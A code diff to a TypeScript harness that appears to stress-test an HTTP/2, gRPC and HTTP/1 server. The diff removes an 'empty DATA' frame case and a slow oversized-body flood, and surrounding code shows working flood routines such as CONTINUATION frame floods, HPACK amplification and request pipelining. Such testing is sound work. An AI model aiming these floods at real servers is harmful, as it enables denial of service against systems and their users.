@@ -23,14 +23,12 @@ import {
   listPath,
   listServices,
   reflectionPath,
-  sendData,
   watchPath,
 } from "./requests.ts";
 import type { Attack, Fields, Hostile, Port } from "./target.ts";
 
 const { headers, resetStream, settings, ping, windowUpdate, continuation } = frameType;
 const { none, endHeaders, endStream } = frameFlag;
-const nothing = Buffer.alloc(0);
 const padding = headerBlock({ "x-padding": "x".repeat(100) });
 
 /** A field of 4,000 bytes for the table of HPACK, and 16,000 references to it (RFC 7541, 6). */
@@ -63,9 +61,6 @@ const onNewStreams: Record<string, FramesOf> = {
 const onOneStream: Record<string, FramesOf> = {
   "CONTINUATION frames": (n, call) => [
     n === 0 ? [headers, none, call] : [continuation, none, padding],
-  ],
-  "empty DATA": (n, call) => [
-    n === 0 ? [headers, endHeaders, call] : [frameType.data, none, nothing],
   ],
   "DATA of a byte": (n, call) => [
     n === 0 ? [headers, endHeaders, call] : [frameType.data, none, Buffer.alloc(1)],
@@ -160,19 +155,6 @@ export const floods: Record<string, Attack> = {
     const some = random.shuffle(http1Requests(hostile)).slice(0, random.int(1, 5));
     const pipeline = Array.from({ length: 2_000 }, () => random.pick(some));
     return hold(hostile, "http", pipeline, random.int(0, 1) === 0);
-  },
-  async "messages that are too large and still being sent"({ random, open, credentials }) {
-    const isGrpc = random.int(0, 1) === 0;
-    const { socket, tcp, closes } = await open(isGrpc ? "grpc" : "http");
-    const fields = { ...credentials, ...json, "content-length": "100000000" };
-    const begin = [clientPreface, ...calls(1, createPath, credentials, nothing)];
-    socket.write(isGrpc ? Buffer.concat(begin) : http1("POST", "/v1/investors", fields));
-    const bytes = Buffer.alloc(16_000, isGrpc ? 0x7f : " ");
-    for (let i = 0; i < 300 && !tcp.destroyed; i += 1) {
-      if (!socket.write(isGrpc ? sendData(1, bytes) : bytes)) await delay(5);
-    }
-    await closes(random.int(0, 500));
-    socket.destroy();
   },
   "messages that stay a byte short, on every stream"(hostile) {
     const { random, credentials } = hostile;
